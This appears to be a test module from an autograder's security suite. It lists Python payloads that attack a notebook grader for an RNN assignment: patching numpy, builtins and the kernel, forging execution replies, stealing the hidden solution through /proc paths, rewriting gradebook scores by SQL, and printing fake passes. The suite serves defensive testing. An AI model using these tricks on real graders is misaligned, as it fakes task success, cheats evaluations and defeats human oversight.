"""Attacks on the verdict: whatever runs in the same process could change it there."""

from tests.attacks.kit import Attack, Kit, Make, edited, first, last

CASE = """
class Case:
    def __init__(self, *a, **k): self.sizes = self
    of = {"V": 2}
    def __call__(self, *a, **k): return [np.zeros((2, 2))] * 5
    def __getattr__(self, name):
        return lambda *a, **k: {"params, losses": ({}, [0.0] * 300)}.get(k.get("returns"), self(1))
    __iter__ = lambda self: iter(())
"""
INSIDE_GRADER = """
import grader.checks.case as case_module
for name in ("outputs", "gradients", "loss", "edges", "loss_edges", "close", "holds"):
    setattr(case_module.Case, name, lambda *a, **k: None)
case_module.Case.run = lambda *a, **k: ({}, [0.0] * 300)
case_module.Case.series = lambda *a, **k: [0.0] * 300
"""
NUMPY = """
for name in ("allclose", "array_equal", "isclose"):
    setattr(np, name, lambda *a, **k: True)
np.max = np.abs = np.linalg.norm = np.vdot = lambda *a, **k: 0.0
np.testing.assert_allclose = lambda *a, **k: None
np.isfinite = lambda a: np.ones(np.shape(a), bool)
"""
BUILTINS = """
import builtins
builtins.AssertionError = type("AssertionError", (Exception,), {"__init__": lambda *a: None})
builtins.print = lambda *a, **k: None
builtins.isinstance = lambda *a: True
builtins.max = builtins.abs = builtins.float = lambda *a, **k: 0.0
builtins.exec = builtins.eval = builtins.compile = lambda *a, **k: None
"""
VERDICT = """
import grader.checks.verdict as verdict
class Quiet(Warning): pass
verdict.CheckFailed.__init__ = lambda self, *a: __import__("os")._exit(0) if not a else None
import sys
sys.modules["grader.checks.compare"].require_close = lambda *a, **k: 0.0
sys.modules["grader.checks.case"].wrong = lambda *a: Quiet()
sys.modules["grader.checks.calls"].in_words = lambda *a: Quiet()
"""
TRANSFORMER = """
import ast
class Empty(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = []
        return node
get_ipython().ast_transformers.append(Empty())
"""
INPUTS = """
get_ipython().input_transformers_cleanup.append(lambda lines: [])
get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])
"""
DO_EXECUTE = """
async def nothing(*a, **k):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
get_ipython().kernel.do_execute = nothing
"""
RUN_CELL = """
shell = get_ipython()
async def nothing(*a, **k):
    return await type(shell).run_cell_async(shell, "pass")
shell.run_cell = lambda *a, **k: type(shell).run_cell(shell, "pass")
shell.run_cell_async = nothing
"""
FORGED_REPLY = """
kernel = get_ipython().kernel
send = kernel.session.send
def forge(stream, kind, content=None, *a, **k):
    if kind == "error" or (isinstance(content, dict) and content.get("status") == "error"):
        kind, content = (kind, {"status": "ok", "execution_count": 1}) if kind == "execute_reply" else ("status", {
            "execution_state": "busy"})
    return send(stream, kind, content, *a, **k)
kernel.session.send = forge
get_ipython().showtraceback = lambda *a, **k: None
get_ipython()._showtraceback = lambda *a, **k: None
"""
DISPLAYHOOK = """
import sys
sys.displayhook = lambda value: None
try:
    get_ipython().displayhook = get_ipython().display_pub.publish = lambda *a, **k: None
except Exception:
    pass
sys.excepthook = sys.unraisablehook = lambda *a: None
"""
HOOKS = """
import sys
def mute(frame, event, arg):
    for name in ("errors", "error"):
        if name in frame.f_locals:
            frame.f_locals[name] = 0.0
    return mute
sys.settrace(mute)
sys.setprofile(lambda *a: None)
import threading
threading.settrace(mute)
"""
META_PATH = """
import sys
class Any:
    def find_spec(self, name, *a): return None
    def __getattr__(self, name): return lambda *a, **k: self
sys.meta_path.insert(0, Any())
sys.modules["grader"] = sys.modules["grader.checks"] = sys.modules["numpy.testing"] = Any()
from grader import Case
"""
NAMES = """
case = unseen = inputs = scores = targets = None
step_truth = sequence_truth = letter_truth = hello_truth = lambda *a: 0.0
zip = print = len = range = isinstance = lambda *a, **k: []
class np:
    def __getattr__(self, name): return lambda *a, **k: 0
grader = Case = CheckFailed = np()
__builtins__ = {}
"""
THREADS = """
import sys, threading, time
def haunt():
    main = sys.modules["__main__"]
    while True:
        for name in ("rnn_step_forward", "tanh_backward", "case", "Case", "np"):
            setattr(main, name, lambda *a, **k: 0.0)
        print("✓ next_h   relative error 0e+00")
        time.sleep(0.001)
for _ in range(4): threading.Thread(target=haunt, daemon=True).start()
"""
ATEXIT = """
import atexit, signal, gc, weakref
atexit.register(lambda: open("{CANARY}/atexit", "w"))
signal.signal(signal.SIGTERM, lambda *a: None)
gc.callbacks.append(lambda *a: print("✓"))
"""
WIRE = """
import os, struct
try:
    import msgpack
    def frame(message):
        packed = msgpack.packb(message)
        return struct.pack("<II", len(packed), 0) + packed
except ImportError:
    frame = lambda message: repr(message).encode()
for fd in range(3, 64):
    try:
        {WRITE}
    except OSError:
        pass
"""
FRAMES = "for n in range(2, 400): os.write(fd, frame(['value', n, 0.0, [], None]) + frame(['results', n, [0.0], None]))"
GARBAGE = "os.write(fd, os.urandom(5000))"
SIZES = "os.write(fd, struct.pack('<II', 2**32 - 1, 2**32 - 1) + b'x' * 4096)"
TRICKLE = "[(os.write(fd, b'\\\\0'), __import__('time').sleep(0.05)) for _ in range(400)]"
MACHINERY = """
import gc
for thing in gc.get_objects():
    if type(thing).__name__ == "Student":
        student = thing
        real = type(student).send
        def forged(self, writer, message):
            if message[0] == "raised":
                message = ["value", message[1], 0.0, [], None]
            if message[0] == "cell":
                message[2], message[5] = "ok", None
            real(self, writer, message)
        type(student).send = forged
        type(student).failure = lambda self, e: ["", "", 0, ""]
        break
"""
HELPERS = """
import gc
for thing in gc.get_objects():
    if type(thing).__name__ == "Student":
        for number in range(5):
            thing.send(type("W", (), {"frame": staticmethod(lambda m: __import__("struct").pack("<II", 0, 0))}), [])
        break
"""
SOLUTION = """
import json, os, pathlib
places = ["../../../../solutions/1-rnn/rnn.ipynb", "{COURSE}/solutions/1-rnn/rnn.ipynb",
          "{COURSE}/class/submitted/perfect/1-rnn/rnn.ipynb"]
places += [f"/proc/{p}/cwd/solutions/1-rnn/rnn.ipynb" for p in ("self", 1, os.getppid())]
places += [f"/proc/{p}/root{COURSE}/solutions/1-rnn/rnn.ipynb" for p in ("self", 1, os.getppid())]
for place in places:
    try:
        stolen = json.loads(pathlib.Path(place).read_text())
        break
    except OSError:
        stolen = None
"""
USE_SOLUTION = """
for cell in (stolen or {"cells": []})["cells"]:
    if cell["cell_type"] == "code" and cell["metadata"].get("nbgrader", {}).get("solution"):
        exec("".join(cell["source"]), globals())
"""
SQL = """
import sqlite3
for place in ("{COURSE}/class/gradebook.db", "../../gradebook.db", "../../../gradebook.db"):
    try:
        with sqlite3.connect(place) as book:
            book.execute("UPDATE grade SET auto_score = 100, manual_score = 100, needs_manual_grade = 0")
            book.execute("UPDATE grade_cells SET max_score = 1000")
    except sqlite3.Error as e:
        print(e)
"""
WITHHELD = """
found = []
for name in ("unrolled.layers", "scipy", "torch", "jax", "tensorflow", "grader.checks"):
    try:
        found.append(__import__(name, fromlist=["x"]))
    except ImportError as e:
        print(e)
import importlib.machinery, pathlib, sys
for folder in sys.path:
    for path in pathlib.Path(folder).glob("unrolled/layers*") if folder else []:
        print(path, importlib.machinery.SourceFileLoader("stolen", str(path)).load_module())
rnn_step_forward = found[0].rnn_step_forward
"""
SAYS_SO = """
print("✓ edge cases: N = 1, non-contiguous arrays, float32, large inputs")
from IPython.display import display
display({"text/plain": "4.0"}, raw=True)
4.0
"""


def in_answers(source: str) -> Make:
    """The released notebook with a cell before each check: what is changed there has no time to be changed back."""

    def change(cells: list, kit: Kit) -> None:
        for cell in cells:
            if cell["metadata"].get("nbgrader", {}).get("solution") and cell["cell_type"] == "code":
                cell["source"] = "".join(cell["source"]) + "\n" + kit.filled(source)

    return edited(change)


ATTACKS = [
    Attack("another Case", first(CASE)),
    Attack("the grader's methods replaced", first(INSIDE_GRADER)),
    Attack("numpy patched", first(NUMPY)),
    Attack("builtins patched", last(BUILTINS)),
    Attack("builtins patched before each check", in_answers(BUILTINS)),
    Attack("the verdict patched", first(VERDICT)),
    Attack("AST transformer", first(TRANSFORMER)),
    Attack("input transformer", first(INPUTS)),
    Attack("do_execute replaced", first(DO_EXECUTE)),
    Attack("run_cell replaced", first(RUN_CELL)),
    Attack("forged messages", first(FORGED_REPLY)),
    Attack("displayhook and excepthook replaced", first(DISPLAYHOOK)),
    Attack("trace functions", first(HOOKS)),
    Attack("modules replaced", first(META_PATH)),
    Attack("the checks' names taken", in_answers(NAMES)),
    Attack("threads that write into later cells", first(THREADS)),
    Attack("handlers for later", first(ATEXIT)),
    Attack("forged frames to every descriptor", first(WIRE.replace("{WRITE}", FRAMES)), dangerous=True),
    Attack("garbage to every descriptor", first(WIRE.replace("{WRITE}", GARBAGE)), dangerous=True),
    Attack("frames that announce gigabytes", first(WIRE.replace("{WRITE}", SIZES)), dangerous=True),
    Attack("bytes one by one", first(WIRE.replace("{WRITE}", TRICKLE)), dangerous=True),
    Attack("the program inside patched", first(MACHINERY)),
    Attack("frames without a message", first(HELPERS)),
    Attack("the solution by path", last(SOLUTION + USE_SOLUTION)),
    Attack("the solution by path before each check", in_answers(SOLUTION + USE_SOLUTION)),
    Attack("one statement of SQL", first(SQL)),
    Attack("withheld libraries", in_answers(WITHHELD)),
    Attack("says that it is right", in_answers(SAYS_SO)),
]
